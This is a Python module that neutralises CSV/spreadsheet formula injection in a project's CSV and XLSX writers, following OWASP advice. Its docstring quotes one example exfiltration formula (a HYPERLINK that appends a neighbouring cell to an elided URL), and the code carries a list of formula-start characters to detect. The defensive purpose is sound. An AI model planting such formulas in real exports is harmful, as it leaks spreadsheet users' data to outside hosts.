"""Text written into a CSV or XLSX download stays text when a spreadsheet program opens it.

Spreadsheet programs run a cell that starts with "=", "+", "-" or "@" (and, in some programs,
a tab, a carriage return or the full-width forms of those signs) as a formula: a title typed as
``=HYPERLINK("http://…?"&A2,"Open")`` would send the neighbouring cells away when the file is opened.
Every CSV and XLSX writer of the project passes its cells through this module:

- CSV: such text gets a leading apostrophe, which spreadsheet programs show as a text marker
  (the OWASP "CSV injection" advice); the readers of the project take it off again (``csv_unguard``).
- XLSX: such text is written as a string cell (data type ``s``) with the "quote prefix" style,
  so the program shows it as typed and keeps it text when the cell is edited.

Numbers stay numbers: numeric values are written as they are, and text that is a plain number
("-5", "+3.5", "1e3") is not marked.
"""

import re

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def formula_like(value) -> bool:
    """True for text a spreadsheet program could run as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_START) and not _NUMBER.fullmatch(value)


def csv_guard(value):
    """The CSV cell for ``value``: formula-like text gets a leading apostrophe.

    Text that already starts with apostrophes in front of such a sign gets one more, so that
    ``csv_unguard`` gives back exactly what was written.
    """
    if isinstance(value, str) and formula_like(value.lstrip("'")):
        return "'" + value
    return value


def csv_unguard(value: str) -> str:
    """The text a guarded CSV cell stands for (the reverse of ``csv_guard``)."""
    if value.startswith("'") and formula_like(value[1:].lstrip("'")):
        return value[1:]
    return value


def _illegal():
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    return ILLEGAL_CHARACTERS_RE


def xlsx_guard(cell):
    """Keep a text cell text: formula-like text becomes a quote-prefixed string cell.

    Control characters XLSX cannot hold are dropped from text instead of failing the whole file.
    """
    value = cell.value
    if isinstance(value, str):
        clean = _illegal().sub("", value)
        if clean != value:
            cell.value = clean
        if cell.data_type == "f" or formula_like(clean):
            cell.data_type = "s"
            cell.quotePrefix = True
    return cell


def xlsx_put(ws, row: int, column: int, value):
    """``ws.cell(row, column, value)`` with the text kept text."""
    cell = ws.cell(row, column)
    cell.value = _illegal().sub("", value) if isinstance(value, str) else value
    return xlsx_guard(cell)


def xlsx_append(ws, values) -> None:
    """``ws.append(values)`` with the text kept text."""
    values = list(values)
    ws.append([_illegal().sub("", v) if isinstance(v, str) else v for v in values])
    if values:
        for cell in ws[ws.max_row][:len(values)]:
            xlsx_guard(cell)
